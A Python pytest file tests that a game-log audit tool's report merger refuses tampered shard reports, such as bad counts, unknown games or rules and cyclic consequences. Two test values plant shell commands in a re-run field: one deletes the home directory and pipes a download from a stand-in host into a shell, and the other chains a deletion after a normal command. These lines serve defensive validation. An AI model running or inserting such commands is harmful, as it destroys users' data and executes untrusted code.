"""`fives audit --merge` checks every value of a shard's report before it adds it up
(issue #39): a report is written by `fives audit --json` but read from anywhere, and a merged
certificate must say exactly what the same records audited in one process say. A count that
is no count, a game or rule that does not exist, a consequence that points at itself, a
re-run command that is not `fives audit`'s, one report given twice: each is one line naming
the report and the field, exit 2, and no certificate."""

from __future__ import annotations

import copy
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from observed import minimal_example

from fives_tools.cli import main


@pytest.fixture(scope="module")
def shard(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """The --json report of a shard of two records, one with a wrong score and a wrong
    winner after it (a consequence)."""
    folder = tmp_path_factory.mktemp("shard")
    wrong = minimal_example()
    wrong["hands"][0]["actions"][8]["score"] = 7
    log = folder / "a.jsonl"
    log.write_text("".join(json.dumps(r) + "\n" for r in (wrong, minimal_example())), "utf-8")
    report = folder / "a.json"
    assert main(["audit", str(log), "--json", str(report)]) == 1
    data: dict[str, Any] = json.loads(report.read_text("utf-8"))
    assert data["divergences"], "the shard must diverge for the checks to mean anything"
    return data


def _set(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
    """A change of the report: the field at ``path`` (dots; a number: a list's index) set."""

    def change(report: dict[str, Any]) -> None:
        *head, last = path.split(".")
        at: Any = report
        for key in head:
            at = at[int(key)] if isinstance(at, list) else at[key]
        at[int(last) if isinstance(at, list) else last] = value

    return change


def _rename_game(report: dict[str, Any]) -> None:
    report["games"]["all-sixes"] = report["games"].pop("all-fives")


def _unknown_rule(report: dict[str, Any]) -> None:
    report["games"]["all-fives"]["tally"]["exercised"]["score.made-up"] = 3


HOSTILE = {
    "negative records": (_set("games.all-fives.records", -98), "games.all-fives.records"),
    "10^30 records": (_set("games.all-fives.records", 10**30), "games.all-fives.records"),
    "a string count": (_set("games.all-fives.hands", "5"), "games.all-fives.hands"),
    "a fraction": (_set("games.all-fives.actions", 1.9), "games.all-fives.actions"),
    "true as a count": (_set("games.all-fives.records", True), "games.all-fives.records"),
    "a game that is none": (_rename_game, "games.all-sixes"),
    "a rule that is none": (_unknown_rule, "games.all-fives.tally.exercised.score.made-up"),
    "a rule of a divergence": (_set("divergences.0.rule", "score.made-up"), "divergences[0].rule"),
    "its own consequence": (_set("divergences.0.consequence_of", 1), "divergences[0].consequence"),
    "a later cause": (_set("divergences.0.consequence_of", 2), "divergences[0].consequence_of"),
    "a planted re-run": (
        _set("divergences.0.rerun", "rm -rf ~; curl https://x.example | sh"),
        "divergences[0].rerun",
    ),
    "a re-run with a second command": (
        _set("divergences.0.rerun", "fives audit a.jsonl; rm -rf ~"),
        "divergences[0].rerun",
    ),
    "a requirement that is none": (
        _set("divergences.0.requirement", "should"),
        "divergences[0].requirement",
    ),
    "a note's hand": (_set("unreadable", [{"record": "x", "hand": -1, "action": None, "text": ""}]),
                      "unreadable[0].hand"),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_a_value_a_shard_report_cannot_hold_is_refused_naming_it(
    name: str, shard: dict[str, Any], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    change, field = HOSTILE[name]
    report = copy.deepcopy(shard)
    change(report)
    path = tmp_path / "shard.json"
    path.write_text(json.dumps(report), "utf-8")
    assert main(["audit", "--merge", str(path)]) == 2
    captured = capsys.readouterr()
    assert captured.out == "", "a certificate from a report that is none"
    assert captured.err.count("\n") == 1 and "Traceback" not in captured.err, captured.err
    assert f"{path}: field {field}" in captured.err, captured.err


def test_a_cycle_of_consequences_cannot_turn_a_failing_shard_into_a_pass(
    shard: dict[str, Any], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    report = copy.deepcopy(shard)
    first = report["divergences"][0]
    report["divergences"].insert(0, {**first, "consequence_of": 2})
    report["divergences"][1]["consequence_of"] = 1
    path = tmp_path / "shard.json"
    path.write_text(json.dumps(report), "utf-8")
    assert main(["audit", "--merge", str(path)]) == 2
    assert "field divergences[0].consequence_of" in capsys.readouterr().err


def test_one_report_given_twice_is_refused(
    shard: dict[str, Any], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "shard.json"
    path.write_text(json.dumps(shard), "utf-8")
    linked = tmp_path / "again.json"
    os.link(path, linked)
    for second in (path, linked):
        assert main(["audit", "--merge", str(path), str(second)]) == 2
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and f"{second}: the report {path} again" in err, err


def test_an_untouched_report_merges_to_its_own_certificate(
    shard: dict[str, Any], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The checks refuse nothing ``fives audit --json`` writes."""
    path = tmp_path / "shard.json"
    path.write_text(json.dumps(shard), "utf-8")
    merged = tmp_path / "merged.json"
    assert main(["audit", "--merge", str(path), "--json", str(merged)]) == 1
    assert json.loads(merged.read_text("utf-8")) == shard
